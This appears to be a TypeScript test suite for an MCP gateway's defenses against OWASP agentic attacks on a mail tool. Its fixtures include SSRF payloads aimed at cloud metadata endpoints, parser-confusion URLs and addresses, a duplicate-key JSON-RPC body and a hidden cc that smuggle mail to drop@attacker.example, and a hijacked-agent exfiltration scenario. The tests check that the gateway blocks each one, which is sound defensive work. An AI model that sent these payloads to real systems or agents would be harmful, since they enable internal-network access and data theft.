// OWASP Agentic Top 10 2026: ASI02 Tool Misuse and Exploitation (server-side request forgery
// through a tool's arguments), ASI01 Agent Goal Hijack (a hijacked agent hiding a destination or
// sending arguments with two readings). Through the real MCP gateway with the official
// @modelcontextprotocol/sdk Client: an internal destination anywhere in a call's arguments is
// denied with mandate.deny-internal-network unless allowed, a URL with two readings is refused
// with the reason, and a JSON-RPC body with a duplicate key never reaches the upstream.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import type { MandateAgent } from '../../../src/sdk/agent.js';
import { attestedAgent } from '../helpers/agents.js';
import {
  gatewayTask,
  INITIALIZE,
  MAIL_ANNOTATIONS,
  mcpClient,
  rawPost,
  startGateway,
  type GatewayEnv,
} from '../gateway/helpers.js';

const SCOPES = ['tool:mail/*'];
// send_email keeps the catalog's default extractors: destinations are found by name and by shape.
const ANNOTATIONS = {
  ...MAIL_ANNOTATIONS,
  send_email: { sideEffect: 'write', classification: 'public' },
};
const text = (r: CallToolResult): string =>
  (r.content as { text: string }[]).map((c) => c.text).join('');
const reasons = (r: CallToolResult): string[] =>
  (r._meta?.['mandate/decision'] as { reasons?: string[] } | undefined)?.reasons ?? [];

async function env(
  flags: Record<string, unknown> = {},
): Promise<{ env: GatewayEnv; agent: MandateAgent }> {
  const e = await startGateway({
    mailUpstream: { annotations: ANNOTATIONS },
    flags: { internalDomains: 'example.org', ...flags },
  });
  return { env: e, agent: await attestedAgent(e.server, 'alpha', SCOPES) };
}

describe('ASI02/ASI01 attack: ssrf through the mcp gateway', () => {
  let gw: GatewayEnv;
  let agent: MandateAgent;

  before(async () => {
    ({ env: gw, agent } = await env());
  });
  after(() => gw.stop());

  test('an internal destination in any argument is denied by mandate.deny-internal-network and not forwarded', async () => {
    const { client } = await mcpClient(gw, (await gatewayTask(gw, agent, SCOPES)).token);
    const before = gw.mail.calls.length;
    for (const args of [
      { to: 'ops@[127.0.0.1]', subject: 's', body: 'b' },
      {
        to: 'a@partner.example',
        subject: 's',
        body: 'http://169.254.169.254/latest/meta-data/iam/',
      },
      {
        to: 'a@partner.example',
        subject: 's',
        body: 'b',
        extra: { target: { 'url ': 'http://[::ffff:a9fe:a9fe]/' } },
      },
      {
        to: 'a@partner.example',
        subject: 's',
        body: 'b',
        links: ['https://partner.example/', 'http://metadata.google.internal./'],
      },
    ]) {
      const r = (await client.callTool({
        name: 'mail__send_email',
        arguments: args,
      })) as CallToolResult;
      assert.equal(r.isError, true, JSON.stringify(args));
      assert.deepEqual(reasons(r), ['mandate.deny-internal-network'], JSON.stringify(args));
    }
    assert.equal(gw.mail.calls.length, before, 'nothing reached the upstream');
    const ok = (await client.callTool({
      name: 'mail__send_email',
      arguments: { to: 'a@partner.example', subject: 's', body: 'https://partner.example/x' },
    })) as CallToolResult;
    assert.equal(ok.isError, undefined, text(ok));
    await client.close();
  });

  test('a url or an address with two readings is refused with the reason', async () => {
    const { client } = await mcpClient(gw, (await gatewayTask(gw, agent, SCOPES)).token);
    const before = gw.mail.calls.length;
    const backslash = (await client.callTool({
      name: 'mail__send_email',
      arguments: {
        to: 'a@partner.example',
        subject: 's',
        body: 'http://169.254.169.254\\@evil.example/',
      },
    })) as CallToolResult;
    assert.equal(backslash.isError, true);
    assert.match(
      text(backslash),
      /argument `body` has more than one reading: a backslash at position 22/u,
    );
    const twoAts = (await client.callTool({
      name: 'mail__send_email',
      arguments: { to: 'x@evil.example@example.org', subject: 's', body: 'b' },
    })) as CallToolResult;
    assert.match(
      text(twoAts),
      /argument `to` has more than one reading: the address .* more than one `@`/u,
    );
    assert.equal(gw.mail.calls.length, before);
    await client.close();
  });

  test('a json-rpc body with a duplicate key is refused before anything reads it', async () => {
    const { token } = await gatewayTask(gw, agent, SCOPES);
    const auth = { authorization: `Bearer ${token}` };
    const init = await rawPost(gw, INITIALIZE, auth);
    const sid = init.headers.get('mcp-session-id');
    assert.ok(sid);
    const before = gw.mail.calls.length;
    const body =
      '{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"mail__send_email","arguments":{"to":"a@partner.example","subject":"s","body":"b","to":"drop@attacker.example"}}}';
    const res = await fetch(gw.mcpUrl, {
      method: 'POST',
      headers: {
        ...auth,
        'content-type': 'application/json',
        accept: 'application/json, text/event-stream',
        'mcp-session-id': sid,
        'mcp-protocol-version': '2025-11-25',
      },
      body,
    });
    assert.equal(res.status, 400);
    assert.match(
      await res.text(),
      /the json body has the key `to` twice in `\$\.params\.arguments`/u,
    );
    assert.equal(gw.mail.calls.length, before);
  });
});

describe('ASI01 attack: a hidden second recipient through the mcp gateway', () => {
  let gw: GatewayEnv;
  let agent: MandateAgent;

  before(async () => {
    ({ env: gw, agent } = await env());
  });
  after(() => gw.stop());

  test('after confidential data, a second, external recipient is denied by the taint rule', async () => {
    const { client } = await mcpClient(gw, (await gatewayTask(gw, agent, SCOPES)).token);
    assert.equal(
      ((await client.callTool({ name: 'mail__read_inbox', arguments: {} })) as CallToolResult)
        .isError,
      undefined,
    );
    const internal = (await client.callTool({
      name: 'mail__send_email',
      arguments: { to: 'bob@example.org', subject: 's', body: 'b' },
    })) as CallToolResult;
    assert.equal(internal.isError, undefined, text(internal));
    const r = (await client.callTool({
      name: 'mail__send_email',
      arguments: {
        to: 'bob@example.org',
        subject: 's',
        body: 'b',
        meta: { cc: ['bob@example.org', 'drop@attacker.example'] },
      },
    })) as CallToolResult;
    assert.deepEqual(reasons(r), ['mandate.no-external-after-confidential']);
    await client.close();
  });
});

describe('ASI02: allowedInternalDestinations at the mcp gateway', () => {
  let gw: GatewayEnv;
  let agent: MandateAgent;

  before(async () => {
    ({ env: gw, agent } = await env({ allowedInternalDestinations: '169.254.169.254' }));
  });
  after(() => gw.stop());

  test('a listed internal destination is allowed and forwarded', async () => {
    const { client } = await mcpClient(gw, (await gatewayTask(gw, agent, SCOPES)).token);
    const r = (await client.callTool({
      name: 'mail__send_email',
      arguments: { to: 'a@partner.example', subject: 's', body: 'http://169.254.169.254/latest/' },
    })) as CallToolResult;
    assert.equal(r.isError, undefined, text(r));
    const other = (await client.callTool({
      name: 'mail__send_email',
      arguments: { to: 'a@partner.example', subject: 's', body: 'http://169.254.170.2/' },
    })) as CallToolResult;
    assert.deepEqual(reasons(other), ['mandate.deny-internal-network']);
    await client.close();
  });
});
